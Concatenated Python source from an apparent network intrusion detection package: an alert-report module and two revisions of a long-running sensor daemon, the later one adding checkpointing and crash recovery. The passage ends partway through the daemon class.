from .report import AlertReport, build_report

__all__ = ["Alert", "BlockList", "NidsStats", "StageTimer", "SemanticNids",
           "ParallelSemanticNids", "NidsSensor",
           "AlertReport", "build_report"]

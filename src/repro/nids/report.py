"""Alert reporting: the operator-facing summary of a sensor run.

Groups alerts by source, template, and severity; renders a plain-text
incident report (what a 2006 deployment would mail to the admin) and a
machine-readable dict for downstream tooling.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from .alerts import Alert
from .pipeline import SemanticNids

__all__ = ["AlertReport", "build_report"]

_SEVERITY_ORDER = {"critical": 0, "high": 1, "medium": 2, "low": 3,
                   "degraded": 4}


@dataclass
class AlertReport:
    """A summarized sensor run."""

    total_alerts: int = 0
    by_template: dict[str, int] = field(default_factory=dict)
    by_severity: dict[str, int] = field(default_factory=dict)
    by_source: dict[str, list[Alert]] = field(default_factory=dict)
    first_alert: float | None = None
    last_alert: float | None = None
    blocked: list[str] = field(default_factory=list)
    pipeline_summary: str = ""
    frame_cache_hits: int = 0
    frame_cache_misses: int = 0
    worker_failures: int = 0
    #: fast-path admission (repro.fastpath): prefilter activity during the
    #: run; all zero with ``--no-fastpath``.
    fastpath_frames_skipped: int = 0
    fastpath_anchor_hits: int = 0
    fastpath_starts_pruned: int = 0
    #: reassembly front-end counters (evasion pressure absorbed during the
    #: run): see :class:`repro.nids.stats.NidsStats`.
    fragments_dropped: int = 0
    overlaps_trimmed: int = 0
    datagrams_evicted: int = 0
    streams_evicted: int = 0
    state_evicted: int = 0
    #: fault containment (docs/robustness.md): stage faults the firewall
    #: absorbed, inputs quarantined, deadline trips, and the parallel
    #: engine's self-healing activity.
    stage_faults: dict[str, int] = field(default_factory=dict)
    quarantined: int = 0
    deadline_trips: int = 0
    pool_rebuilds: int = 0
    worker_retries: int = 0
    serial_fallback_payloads: int = 0
    breaker_trips: int = 0

    @property
    def frame_cache_hit_rate(self) -> float:
        total = self.frame_cache_hits + self.frame_cache_misses
        return self.frame_cache_hits / total if total else 0.0

    def to_dict(self) -> dict:
        """Machine-readable form (JSON-serializable)."""
        return {
            "total_alerts": self.total_alerts,
            "by_template": dict(self.by_template),
            "by_severity": dict(self.by_severity),
            "sources": {
                src: [
                    {"time": a.timestamp, "template": a.template,
                     "severity": a.severity, "destination": a.destination,
                     "origin": a.frame_origin}
                    for a in alerts
                ]
                for src, alerts in self.by_source.items()
            },
            "window": [self.first_alert, self.last_alert],
            "blocked": list(self.blocked),
            "frame_cache": {
                "hits": self.frame_cache_hits,
                "misses": self.frame_cache_misses,
                "hit_rate": self.frame_cache_hit_rate,
            },
            "worker_failures": self.worker_failures,
            "fastpath": {
                "frames_skipped": self.fastpath_frames_skipped,
                "anchor_hits": self.fastpath_anchor_hits,
                "starts_pruned": self.fastpath_starts_pruned,
            },
            "resilience": {
                "stage_faults": dict(self.stage_faults),
                "quarantined": self.quarantined,
                "deadline_trips": self.deadline_trips,
                "pool_rebuilds": self.pool_rebuilds,
                "worker_retries": self.worker_retries,
                "serial_fallback_payloads": self.serial_fallback_payloads,
                "breaker_trips": self.breaker_trips,
            },
            "frontend": {
                "fragments_dropped": self.fragments_dropped,
                "overlaps_trimmed": self.overlaps_trimmed,
                "datagrams_evicted": self.datagrams_evicted,
                "streams_evicted": self.streams_evicted,
                "state_evicted": self.state_evicted,
            },
        }

    def render(self) -> str:
        """Plain-text incident report."""
        lines = ["SEMANTIC NIDS INCIDENT REPORT", "=" * 48]
        if self.total_alerts == 0:
            lines.append("no alerts.")
            if self.pipeline_summary:
                lines += ["", self.pipeline_summary]
            return "\n".join(lines)
        window = ""
        if self.first_alert is not None and self.last_alert is not None:
            window = f" over {self.last_alert - self.first_alert:.1f}s"
        lines.append(f"{self.total_alerts} alert(s) from "
                     f"{len(self.by_source)} source(s){window}")
        lines.append("")
        lines.append("by severity:")
        for severity in sorted(self.by_severity,
                               key=lambda s: _SEVERITY_ORDER.get(s, 9)):
            lines.append(f"  {severity:10s} {self.by_severity[severity]}")
        lines.append("by behaviour:")
        for template, count in sorted(self.by_template.items(),
                                      key=lambda kv: -kv[1]):
            lines.append(f"  {template:26s} {count}")
        lines.append("")
        lines.append("offending sources:")
        for source in sorted(self.by_source):
            alerts = self.by_source[source]
            templates = sorted({a.template for a in alerts})
            blocked = " [BLOCKED]" if source in self.blocked else ""
            lines.append(f"  {source}{blocked}")
            lines.append(f"    {len(alerts)} alert(s): {', '.join(templates)}")
            first = min(alerts, key=lambda a: a.timestamp)
            lines.append(f"    first seen t={first.timestamp:.3f} "
                         f"-> {first.destination} ({first.frame_origin})")
        if (self.fragments_dropped or self.overlaps_trimmed
                or self.datagrams_evicted or self.streams_evicted
                or self.state_evicted):
            lines.append("")
            lines.append("evasion pressure absorbed:")
            lines.append(f"  fragments dropped    {self.fragments_dropped}")
            lines.append(f"  overlap bytes trimmed {self.overlaps_trimmed}")
            lines.append(f"  evictions: datagrams={self.datagrams_evicted} "
                         f"streams={self.streams_evicted} "
                         f"state={self.state_evicted}")
        if (self.fastpath_frames_skipped or self.fastpath_anchor_hits
                or self.fastpath_starts_pruned):
            lines.append("")
            lines.append("fast-path admission:")
            lines.append(f"  frames skipped        {self.fastpath_frames_skipped}")
            lines.append(f"  anchor hits           {self.fastpath_anchor_hits}")
            lines.append(f"  match starts pruned   {self.fastpath_starts_pruned}")
        if (self.stage_faults or self.quarantined or self.deadline_trips
                or self.pool_rebuilds or self.breaker_trips):
            lines.append("")
            lines.append("faults contained:")
            for stage in sorted(self.stage_faults):
                lines.append(f"  {stage:10s} {self.stage_faults[stage]}")
            if self.quarantined:
                lines.append(f"  quarantined inputs    {self.quarantined}")
            if self.deadline_trips:
                lines.append(f"  deadline trips        {self.deadline_trips}")
            if self.pool_rebuilds or self.breaker_trips:
                lines.append(
                    f"  self-heal: pool_rebuilds={self.pool_rebuilds} "
                    f"retries={self.worker_retries} "
                    f"serial_fallback={self.serial_fallback_payloads} "
                    f"breaker_trips={self.breaker_trips}")
        if self.pipeline_summary:
            lines += ["", "pipeline:", self.pipeline_summary]
        return "\n".join(lines)


def _metric_value(nids: SemanticNids, name: str) -> int:
    metric = nids.registry.get(name)
    return int(metric.value) if metric is not None else 0


def build_report(nids: SemanticNids) -> AlertReport:
    """Summarize a sensor's accumulated alerts."""
    nids.sync_frontend_stats()
    report = AlertReport(
        total_alerts=len(nids.alerts),
        by_template=nids.alerts_by_template(),
        blocked=nids.blocklist.addresses(),
        pipeline_summary=nids.stats.summary(),
        frame_cache_hits=nids.stats.frame_cache_hits,
        frame_cache_misses=nids.stats.frame_cache_misses,
        worker_failures=nids.stats.worker_failures,
        fastpath_frames_skipped=nids.stats.fastpath_frames_skipped,
        fastpath_anchor_hits=nids.stats.fastpath_anchor_hits,
        fastpath_starts_pruned=nids.stats.fastpath_starts_pruned,
        fragments_dropped=nids.stats.fragments_dropped,
        overlaps_trimmed=nids.stats.overlaps_trimmed,
        datagrams_evicted=nids.stats.datagrams_evicted,
        streams_evicted=nids.stats.streams_evicted,
        state_evicted=nids.stats.state_evicted,
        stage_faults=nids.firewall.faults_by_stage(),
        quarantined=nids.firewall.quarantined,
        deadline_trips=_metric_value(nids, "repro_deadline_exceeded_total"),
        pool_rebuilds=nids.stats.pool_rebuilds,
        worker_retries=nids.stats.worker_retries,
        serial_fallback_payloads=nids.stats.serial_fallback_payloads,
        breaker_trips=nids.stats.breaker_opened,
    )
    for alert in nids.alerts:
        report.by_severity[alert.severity] = (
            report.by_severity.get(alert.severity, 0) + 1)
        report.by_source.setdefault(alert.source, []).append(alert)
        if report.first_alert is None or alert.timestamp < report.first_alert:
            report.first_alert = alert.timestamp
        if report.last_alert is None or alert.timestamp > report.last_alert:
            report.last_alert = alert.timestamp
    return report

"""The always-on sensor daemon (``repro-sensord``).

Everything before this module was one-shot batch analysis: open a pcap,
drain it, exit.  :class:`SensorDaemon` turns the same pipeline into a
long-running service:

- **chunked ingestion** from a :class:`PacketSource` into a bounded
  :class:`~repro.resilience.BoundedRing`, so a traffic burst costs
  queueing (and, past capacity, *counted* shedding) instead of unbounded
  memory;
- **capacity-aware load shedding** — the ring's policy decides whether a
  full buffer sheds the newest packet, the oldest, or pauses the source
  (backpressure); every shed lands in ``repro_shed_packets_total`` and
  every refusal in ``repro_backpressure_waits_total``, so the accounting
  invariant ``ingested == processed + shed + queued`` holds at any
  instant — no drop is ever silent;
- **hot template reload** keyed on
  :func:`~repro.core.library.library_digest`: a ``template_provider``
  callable is polled between batches, and a changed digest atomically
  swaps the library — frame cache, compiled match plans, and anchor
  prefilter re-derive with it (worker pools are respawned on the
  parallel engine) — without dropping a packet;
- **rolling metrics windows** (:class:`~repro.obs.MetricsWindow`): the
  registry is diffed every ``window_secs`` so operators see current
  rates and per-window latency quantiles, not lifetime averages;
- **drift-free heartbeats** via :class:`~repro.obs.PeriodicSchedule`.

The loop is cooperative and single-threaded: one tick ingests up to
``batch_size`` packets, processes up to ``batch_size`` from the ring,
then runs the periodic duties.  Determinism matters more here than
thread-level overlap — the parallel engine already owns process-level
parallelism, and the fleet (:mod:`repro.nids.fleet`) owns scale-out.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Callable, Iterable

from ..net.packet import Packet
from ..net.pcap import PcapReader
from ..obs import MetricsWindow, PeriodicSchedule
from ..resilience.shedder import BoundedRing
from .alerts import Alert
from .pipeline import SemanticNids

__all__ = ["SensorDaemon", "DaemonStats", "IterPacketSource",
           "TailPacketSource"]


class IterPacketSource:
    """A finite packet iterable as a daemon source (replay / tests)."""

    def __init__(self, packets: Iterable[Packet]) -> None:
        self._it = iter(packets)
        self.finished = False

    def poll(self) -> Packet | None:
        try:
            return next(self._it)
        except StopIteration:
            self.finished = True
            return None


class TailPacketSource:
    """A growing capture, tailed through a streaming
    :class:`~repro.net.pcap.PcapReader`.

    ``poll`` returns ``None`` whenever no *complete* record is buffered —
    a partial tail is simply "not yet", never a truncation (that verdict
    belongs to :meth:`finalize`, once the writer is known to be done).
    The source never reports ``finished`` on its own: the daemon's
    ``idle_timeout`` / ``stop`` decide when tailing ends.
    """

    def __init__(self, reader: PcapReader) -> None:
        if not reader.streaming:
            raise ValueError("TailPacketSource needs a streaming PcapReader")
        self.reader = reader
        self.finished = False

    def poll(self) -> Packet | None:
        return self.reader.poll_packet()

    def finalize(self) -> None:
        self.reader.finalize()


@dataclass
class DaemonStats:
    """End-of-run accounting; ``uncounted_drops`` must always be zero."""

    ingested: int
    processed: int
    shed: int
    queued: int
    backpressure_waits: int
    alerts: int
    reloads: int
    windows: int
    duration: float

    @property
    def uncounted_drops(self) -> int:
        """Packets that entered but are neither processed, counted as
        shed, nor still queued — the silent-drop detector."""
        return self.ingested - self.processed - self.shed - self.queued

    @property
    def shed_rate(self) -> float:
        return self.shed / self.ingested if self.ingested else 0.0


class SensorDaemon:
    """Drives a :class:`~repro.nids.SemanticNids` (serial or parallel)
    as an always-on service over a :class:`PacketSource`.

    Parameters
    ----------
    nids:
        The engine; its registry is where every daemon metric lands.
    source:
        Object with ``poll() -> Packet | None`` and a ``finished``
        attribute (see :class:`IterPacketSource`,
        :class:`TailPacketSource`).
    ring_capacity / shed_policy:
        The admission ring (see :class:`~repro.resilience.BoundedRing`).
        Under ``"block"`` a refused packet is held and the source is not
        read again until the ring drains — backpressure, zero loss.
    batch_size:
        Packets ingested and processed per cooperative tick.
    heartbeat / window_secs:
        Periodic duties, both on drift-free deadline-anchored schedules.
    template_provider:
        Optional zero-argument callable polled once per tick; it returns
        a template list (serial engine), a template-set name (either
        engine), or ``None`` for "no opinion".  A changed library digest
        triggers the hot reload.
    idle_timeout:
        Stop after this many seconds without a single packet ingested or
        processed (tail mode's exit condition).  ``None`` = run until
        ``stop`` or the source finishes.
    on_alert:
        Operator callback; exceptions are contained as ``deliver``
        faults, exactly like :class:`~repro.nids.NidsSensor`.
    """

    def __init__(
        self,
        nids: SemanticNids,
        source,
        *,
        ring_capacity: int = 4096,
        shed_policy: str = "newest",
        batch_size: int = 256,
        heartbeat: float = 0.0,
        heartbeat_out: Callable[[str], None] | None = None,
        window_secs: float = 0.0,
        max_windows: int = 60,
        template_provider: Callable | None = None,
        idle_timeout: float | None = None,
        poll_interval: float = 0.02,
        on_alert: Callable[[Alert], None] | None = None,
        clock=time.monotonic,
        sleep=time.sleep,
    ) -> None:
        self.nids = nids
        self.source = source
        self.batch_size = batch_size
        self.template_provider = template_provider
        self.idle_timeout = idle_timeout
        self.poll_interval = poll_interval
        self.on_alert = on_alert
        self.heartbeat_out = heartbeat_out
        self._clock = clock
        self._sleep = sleep
        self.ring = BoundedRing(ring_capacity, policy=shed_policy,
                                registry=nids.registry)
        self._beat = (PeriodicSchedule(heartbeat, clock)
                      if heartbeat > 0 else None)
        self._window_sched = (PeriodicSchedule(window_secs, clock)
                              if window_secs > 0 else None)
        self.window = (MetricsWindow(nids.registry, max_windows=max_windows,
                                     clock=clock)
                       if window_secs > 0 else None)
        reg = nids.registry
        self._ingested = reg.counter(
            "repro_daemon_ingested_total",
            help="Packets pulled from the capture source.", unit="packets")
        self._processed = reg.counter(
            "repro_daemon_processed_total",
            help="Packets taken off the ring and fed to the pipeline.",
            unit="packets")
        self._latency = reg.histogram(
            "repro_daemon_packet_seconds",
            help="Per-packet pipeline latency (ring take to alerts out).",
            unit="seconds")
        self._held: Packet | None = None
        self.reloads = 0

    # -- the cooperative loop -------------------------------------------------

    def run(self, *, max_packets: int | None = None,
            stop: Callable[[], bool] | None = None) -> DaemonStats:
        """Run until the source finishes (and the ring drains), ``stop``
        returns true, ``max_packets`` have been processed, or the daemon
        has been idle for ``idle_timeout`` seconds."""
        started = self._clock()
        idle_since: float | None = None
        while True:
            # Poll the provider first so a changed library applies to
            # this tick's packets — nothing is judged by a stale set
            # once the swap is visible.
            self._maybe_reload()
            moved = self._ingest_tick()
            moved += self._process_tick(max_packets)
            if self._beat is not None and self._beat.due():
                self._emit_heartbeat()
            if self._window_sched is not None and self._window_sched.due():
                self.window.roll()
            if stop is not None and stop():
                break
            if max_packets is not None and self._processed.value >= max_packets:
                break
            if (self.source.finished and len(self.ring) == 0
                    and self._held is None):
                break
            if moved:
                idle_since = None
            else:
                now = self._clock()
                if idle_since is None:
                    idle_since = now
                elif (self.idle_timeout is not None
                      and now - idle_since >= self.idle_timeout):
                    break
                self._sleep(self.poll_interval)
        return self._shutdown(started)

    def _ingest_tick(self) -> int:
        """Pull up to ``batch_size`` packets from the source into the
        ring.  Under the ``block`` policy a refused packet is held (the
        source stays unread — backpressure); drop policies shed inside
        the ring, counted there."""
        n = 0
        while n < self.batch_size:
            held, pkt = self._held is not None, None
            if held:
                pkt, self._held = self._held, None
            else:
                pkt = self.source.poll()
                if pkt is None:
                    break
                self._ingested.inc()
            if not self.ring.offer(pkt) and self.ring.policy == "block":
                self._held = pkt  # retry after the ring drains
                break
            n += 1
        return n

    def _process_tick(self, max_packets: int | None) -> int:
        n = 0
        while n < self.batch_size:
            if (max_packets is not None
                    and self._processed.value >= max_packets):
                break
            pkt = self.ring.take()
            if pkt is None:
                break
            t0 = time.perf_counter()
            alerts = self.nids.process_packet(pkt)
            self._latency.observe(time.perf_counter() - t0)
            self._processed.inc()
            n += 1
            for alert in alerts:
                self._deliver(alert)
        return n

    # -- periodic duties ------------------------------------------------------

    def _maybe_reload(self) -> None:
        if self.template_provider is None:
            return
        spec = self.template_provider()
        if spec is None:
            return
        if isinstance(spec, str):
            if hasattr(self.nids, "reload_template_set"):
                changed = self.nids.reload_template_set(spec)
            else:
                from .parallel import resolve_template_set
                changed = self.nids.reload_templates(
                    resolve_template_set(spec))
        else:
            changed = self.nids.reload_templates(spec)
        if changed:
            self.reloads += 1

    def _emit_heartbeat(self) -> None:
        stats = self.nids.stats
        line = (f"heartbeat: ingested={self._ingested.value} "
                f"processed={self._processed.value} "
                f"queued={len(self.ring)} shed={self.ring.shed_total} "
                f"alerts={stats.alerts} reloads={self.reloads}")
        if self.heartbeat_out is not None:
            self.heartbeat_out(line)

    def _deliver(self, alert: Alert) -> None:
        if self.on_alert is None:
            return
        try:
            self.on_alert(alert)
        except Exception as exc:  # noqa: BLE001 — operator code is untrusted
            self.nids.firewall.contain_record(
                "deliver", reason="resilience.stage-fault",
                detail=f"{type(exc).__name__}: {exc}")

    # -- shutdown -------------------------------------------------------------

    def _shutdown(self, started: float) -> DaemonStats:
        for alert in self.nids.flush():
            self._deliver(alert)
        if hasattr(self.source, "finalize"):
            self.source.finalize()
        if self.window is not None:
            self.window.roll()
        if self._beat is not None:
            self._emit_heartbeat()
        return self.stats(duration=self._clock() - started)

    def stats(self, duration: float = 0.0) -> DaemonStats:
        return DaemonStats(
            ingested=self._ingested.value,
            processed=self._processed.value,
            shed=self.ring.shed_total,
            queued=len(self.ring) + (1 if self._held is not None else 0),
            backpressure_waits=self.ring.backpressure_total,
            alerts=self.nids.stats.alerts,
            reloads=self.reloads,
            windows=len(self.window.windows) if self.window else 0,
            duration=duration,
        )

"""The always-on sensor daemon (``repro-sensord``).

Everything before this module was one-shot batch analysis: open a pcap,
drain it, exit.  :class:`SensorDaemon` turns the same pipeline into a
long-running service:

- **chunked ingestion** from a :class:`PacketSource` into a bounded
  :class:`~repro.resilience.BoundedRing`, so a traffic burst costs
  queueing (and, past capacity, *counted* shedding) instead of unbounded
  memory;
- **capacity-aware load shedding** — the ring's policy decides whether a
  full buffer sheds the newest packet, the oldest, or pauses the source
  (backpressure); every shed lands in ``repro_shed_packets_total`` and
  every refusal in ``repro_backpressure_waits_total``, so the accounting
  invariant ``ingested == processed + shed + queued`` holds at any
  instant — no drop is ever silent;
- **hot template reload** keyed on
  :func:`~repro.core.library.library_digest`: a ``template_provider``
  callable is polled between batches, and a changed digest atomically
  swaps the library — frame cache, compiled match plans, and anchor
  prefilter re-derive with it (worker pools are respawned on the
  parallel engine) — without dropping a packet;
- **rolling metrics windows** (:class:`~repro.obs.MetricsWindow`): the
  registry is diffed every ``window_secs`` so operators see current
  rates and per-window latency quantiles, not lifetime averages;
- **drift-free heartbeats** via :class:`~repro.obs.PeriodicSchedule`.

The loop is cooperative and single-threaded: one tick ingests up to
``batch_size`` packets, processes up to ``batch_size`` from the ring,
then runs the periodic duties.  Determinism matters more here than
thread-level overlap — the parallel engine already owns process-level
parallelism, and the fleet (:mod:`repro.nids.fleet`) owns scale-out.
"""

from __future__ import annotations

import os
import time
from dataclasses import dataclass
from typing import Callable, Iterable

from ..net.packet import Packet
from ..net.pcap import PcapReader
from ..obs import MetricsWindow, PeriodicSchedule
from ..resilience.checkpoint import CheckpointStore
from ..resilience.delivery import DurableDelivery
from ..resilience.journal import AlertJournal
from ..resilience.shedder import BoundedRing
from .alerts import Alert
from .pipeline import SemanticNids

__all__ = ["SensorDaemon", "DaemonStats", "IterPacketSource",
           "TailPacketSource"]


class IterPacketSource:
    """A finite packet iterable as a daemon source (replay / tests).

    Positions are packet indices: ``tell()`` is how many packets have
    been polled, ``seek(n)`` skips forward to index ``n`` (a resumed
    daemon replays the iterable and seeks past the checkpointed
    prefix).
    """

    def __init__(self, packets: Iterable[Packet]) -> None:
        self._it = iter(packets)
        self.finished = False
        self._pos = 0

    def poll(self) -> Packet | None:
        try:
            pkt = next(self._it)
        except StopIteration:
            self.finished = True
            return None
        self._pos += 1
        return pkt

    def tell(self) -> int:
        return self._pos

    def seek(self, pos: int) -> None:
        if pos < self._pos:
            raise ValueError(
                f"IterPacketSource cannot seek backwards "
                f"({pos} < {self._pos}); rebuild the source instead")
        while self._pos < pos:
            if self.poll() is None:
                break


class TailPacketSource:
    """A growing capture, tailed through a streaming
    :class:`~repro.net.pcap.PcapReader`.

    ``poll`` returns ``None`` whenever no *complete* record is buffered —
    a partial tail is simply "not yet", never a truncation (that verdict
    belongs to :meth:`finalize`, once the writer is known to be done).
    The source never reports ``finished`` on its own: the daemon's
    ``idle_timeout`` / ``stop`` decide when tailing ends.
    """

    def __init__(self, reader: PcapReader) -> None:
        if not reader.streaming:
            raise ValueError("TailPacketSource needs a streaming PcapReader")
        self.reader = reader
        self.finished = False

    def poll(self) -> Packet | None:
        return self.reader.poll_packet()

    def tell(self) -> int:
        """Capture byte offset of the next unread record."""
        return self.reader.tell()

    def seek(self, offset: int) -> None:
        self.reader.seek_to(offset)

    def finalize(self) -> None:
        self.reader.finalize()


@dataclass
class DaemonStats:
    """End-of-run accounting; ``uncounted_drops`` must always be zero."""

    ingested: int
    processed: int
    shed: int
    queued: int
    backpressure_waits: int
    alerts: int
    reloads: int
    windows: int
    duration: float
    #: crash-safety accounting; all zero without ``checkpoint_dir``.
    checkpoints: int = 0
    replayed: int = 0
    deduped: int = 0

    @property
    def uncounted_drops(self) -> int:
        """Packets that entered but are neither processed, counted as
        shed, nor still queued — the silent-drop detector."""
        return self.ingested - self.processed - self.shed - self.queued

    @property
    def shed_rate(self) -> float:
        return self.shed / self.ingested if self.ingested else 0.0


class SensorDaemon:
    """Drives a :class:`~repro.nids.SemanticNids` (serial or parallel)
    as an always-on service over a :class:`PacketSource`.

    Parameters
    ----------
    nids:
        The engine; its registry is where every daemon metric lands.
    source:
        Object with ``poll() -> Packet | None`` and a ``finished``
        attribute (see :class:`IterPacketSource`,
        :class:`TailPacketSource`).
    ring_capacity / shed_policy:
        The admission ring (see :class:`~repro.resilience.BoundedRing`).
        Under ``"block"`` a refused packet is held and the source is not
        read again until the ring drains — backpressure, zero loss.
    batch_size:
        Packets ingested and processed per cooperative tick.
    heartbeat / window_secs:
        Periodic duties, both on drift-free deadline-anchored schedules.
    template_provider:
        Optional zero-argument callable polled once per tick; it returns
        a template list (serial engine), a template-set name (either
        engine), or ``None`` for "no opinion".  A changed library digest
        triggers the hot reload.
    idle_timeout:
        Stop after this many seconds without a single packet ingested or
        processed (tail mode's exit condition).  ``None`` = run until
        ``stop`` or the source finishes.
    on_alert:
        Operator callback; exceptions are contained as ``deliver``
        faults, exactly like :class:`~repro.nids.NidsSensor`.
    checkpoint_dir:
        Enables the durability layer (docs/operations.md, "Crash
        recovery & durability"): every alert is written ahead to a
        CRC-framed journal under ``<dir>/journal/`` before delivery,
        and every ``checkpoint_interval`` processed packets the daemon
        atomically checkpoints its capture position, engine state, and
        accounting to ``<dir>/checkpoint.bin``.  Requires a source with
        ``tell()`` and an engine with ``snapshot_state()`` (the serial
        engine; the parallel engine's state lives in its workers).
    resume:
        Rehydrate from ``checkpoint_dir`` instead of starting fresh:
        restore engine state and counters, replay the journaled-but-
        possibly-undelivered alert tail through the delivery layer
        (at-least-once; duplicates are suppressed by seq), and seek the
        source to the checkpointed position.  Without ``resume`` any
        stale checkpoint/journal files in the directory are cleared.
    delivery:
        Optional :class:`~repro.resilience.DurableDelivery` to route
        alerts through (retries/backoff/spool).  Defaults, when
        ``checkpoint_dir`` is set, to one wrapping ``on_alert``.
    """

    def __init__(
        self,
        nids: SemanticNids,
        source,
        *,
        ring_capacity: int = 4096,
        shed_policy: str = "newest",
        batch_size: int = 256,
        heartbeat: float = 0.0,
        heartbeat_out: Callable[[str], None] | None = None,
        window_secs: float = 0.0,
        max_windows: int = 60,
        template_provider: Callable | None = None,
        idle_timeout: float | None = None,
        poll_interval: float = 0.02,
        on_alert: Callable[[Alert], None] | None = None,
        checkpoint_dir: str | os.PathLike[str] | None = None,
        checkpoint_interval: int = 1000,
        journal_fsync_batch: int = 8,
        resume: bool = False,
        delivery: DurableDelivery | None = None,
        clock=time.monotonic,
        sleep=time.sleep,
    ) -> None:
        self.nids = nids
        self.source = source
        self.batch_size = batch_size
        self.template_provider = template_provider
        self.idle_timeout = idle_timeout
        self.poll_interval = poll_interval
        self.on_alert = on_alert
        self.heartbeat_out = heartbeat_out
        self._clock = clock
        self._sleep = sleep
        self.ring = BoundedRing(ring_capacity, policy=shed_policy,
                                registry=nids.registry)
        self._beat = (PeriodicSchedule(heartbeat, clock)
                      if heartbeat > 0 else None)
        self._window_sched = (PeriodicSchedule(window_secs, clock)
                              if window_secs > 0 else None)
        self.window = (MetricsWindow(nids.registry, max_windows=max_windows,
                                     clock=clock)
                       if window_secs > 0 else None)
        reg = nids.registry
        self._ingested = reg.counter(
            "repro_daemon_ingested_total",
            help="Packets pulled from the capture source.", unit="packets")
        self._processed = reg.counter(
            "repro_daemon_processed_total",
            help="Packets taken off the ring and fed to the pipeline.",
            unit="packets")
        self._latency = reg.histogram(
            "repro_daemon_packet_seconds",
            help="Per-packet pipeline latency (ring take to alerts out).",
            unit="seconds")
        #: under "block", the (packet, origin) pair refused by a full ring
        self._held: tuple | None = None
        self.reloads = 0
        # -- durability layer (optional) --
        self.journal: AlertJournal | None = None
        self.checkpoints: CheckpointStore | None = None
        self.delivery = delivery
        self.checkpoint_interval = max(1, checkpoint_interval)
        self._alert_seq = 0
        self._last_checkpoint_processed = 0
        if checkpoint_dir is not None:
            if not hasattr(nids, "snapshot_state"):
                raise ValueError(
                    "checkpointing needs an engine with snapshot_state(); "
                    "the parallel engine keeps its state in worker "
                    "processes — use the serial engine or SensorFleet")
            if not hasattr(source, "tell"):
                raise ValueError(
                    "checkpointing needs a source with tell()/seek() "
                    "(IterPacketSource, TailPacketSource)")
            self.checkpoints = CheckpointStore(
                checkpoint_dir, registry=reg, clock=clock)
            self.journal = AlertJournal(
                os.path.join(checkpoint_dir, "journal"),
                fsync_batch=journal_fsync_batch, registry=reg)
            if self.delivery is None:
                self.delivery = DurableDelivery(
                    lambda _key, alert: (
                        self.on_alert(alert)
                        if self.on_alert is not None else None),
                    registry=reg, sleep=sleep, clock=clock)
            if resume:
                self._resume()
            else:
                self.checkpoints.clear()
                self.journal.prune(keep_segments=0)
        elif resume:
            raise ValueError("resume=True requires checkpoint_dir")

    # -- crash recovery -------------------------------------------------------

    def _resume(self) -> None:
        """Rehydrate state from the checkpoint directory.

        Torn journal tails are truncated; the journaled alert window at
        or past the checkpoint's alert-seq watermark is replayed through
        the delivery layer (at-least-once — those alerts may or may not
        have reached the sink before the crash), which also arms the
        seq dedupe so the deterministically regenerated copies are
        suppressed.
        """
        recovery = self.journal.recover()
        ckpt = self.checkpoints.load()
        floor = 0
        if ckpt is not None:
            self.nids.restore_state(ckpt["engine"])
            self._ingested.inc(ckpt["processed"] + ckpt["shed"])
            self._processed.inc(ckpt["processed"])
            self.ring.restore_counters(
                shed=ckpt["shed"], accepted=ckpt["processed"],
                backpressure=ckpt["backpressure"])
            self._alert_seq = ckpt["alert_seq"]
            self._last_checkpoint_processed = ckpt["processed"]
            self.reloads = ckpt["reloads"]
            floor = ckpt["alert_seq"]
            self.source.seek(ckpt["resume_offset"])
        # Alerts journaled before the watermark were delivered before the
        # checkpoint and will not be regenerated — skip them.  The rest
        # is the in-doubt window.
        self.delivery.replay(
            (key, record) for key, record in recovery.entries if key >= floor)
        self.delivery.replay_spool()

    def checkpoint(self) -> None:
        """Atomically persist progress.  The journal is synced first, so
        every alert below the checkpointed watermark is durable before
        the checkpoint can claim it was emitted."""
        if self.checkpoints is None:
            return
        self.journal.sync()
        head = self.ring.peek()
        if head is not None:
            resume_offset = head[1]
        elif self._held is not None:
            resume_offset = self._held[1]
        else:
            resume_offset = self.source.tell()
        self.checkpoints.save({
            "resume_offset": resume_offset,
            "engine": self.nids.snapshot_state(),
            "processed": self._processed.value,
            "shed": self.ring.shed_total,
            "backpressure": self.ring.backpressure_total,
            "alert_seq": self._alert_seq,
            "reloads": self.reloads,
        })
        self._last_checkpoint_processed = self._processed.value

    def _maybe_checkpoint(self) -> None:
        if self.checkpoints is None:
            return
        done = self._processed.value - self._last_checkpoint_processed
        if done >= self.checkpoint_interval:
            self.checkpoint()

    # -- the cooperative loop -------------------------------------------------

    def run(self, *, max_packets: int | None = None,
            stop: Callable[[], bool] | None = None) -> DaemonStats:
        """Run until the source finishes (and the ring drains), ``stop``
        returns true, ``max_packets`` have been processed, or the daemon
        has been idle for ``idle_timeout`` seconds."""
        started = self._clock()
        idle_since: float | None = None
        while True:
            # Poll the provider first so a changed library applies to
            # this tick's packets — nothing is judged by a stale set
            # once the swap is visible.
            self._maybe_reload()
            moved = self._ingest_tick()
            moved += self._process_tick(max_packets)
            self._maybe_checkpoint()
            if self._beat is not None and self._beat.due():
                self._emit_heartbeat()
            if self._window_sched is not None and self._window_sched.due():
                self.window.roll()
            if stop is not None and stop():
                break
            if max_packets is not None and self._processed.value >= max_packets:
                break
            if (self.source.finished and len(self.ring) == 0
                    and self._held is None):
                break
            if moved:
                idle_since = None
            else:
                now = self._clock()
                if idle_since is None:
                    idle_since = now
                elif (self.idle_timeout is not None
                      and now - idle_since >= self.idle_timeout):
                    break
                self._sleep(self.poll_interval)
        return self._shutdown(started)

    def _ingest_tick(self) -> int:
        """Pull up to ``batch_size`` packets from the source into the
        ring.  Under the ``block`` policy a refused packet is held (the
        source stays unread — backpressure); drop policies shed inside
        the ring, counted there."""
        n = 0
        track = self.checkpoints is not None
        while n < self.batch_size:
            if self._held is not None:
                item, self._held = self._held, None
            else:
                origin = self.source.tell() if track else None
                pkt = self.source.poll()
                if pkt is None:
                    break
                self._ingested.inc()
                item = (pkt, origin)
            if not self.ring.offer(item) and self.ring.policy == "block":
                self._held = item  # retry after the ring drains
                break
            n += 1
        return n

    def _process_tick(self, max_packets: int | None) -> int:
        n = 0
        while n < self.batch_size:
            if (max_packets is not None
                    and self._processed.value >= max_packets):
                break
            item = self.ring.take()
            if item is None:
                break
            pkt = item[0]
            t0 = time.perf_counter()
            # A fleet engine returns None here (its alerts surface at
            # flush, in deterministic merge order); keep the loop shape.
            alerts = self.nids.process_packet(pkt) or ()
            self._latency.observe(time.perf_counter() - t0)
            self._processed.inc()
            n += 1
            for alert in alerts:
                self._emit(alert)
        return n

    # -- periodic duties ------------------------------------------------------

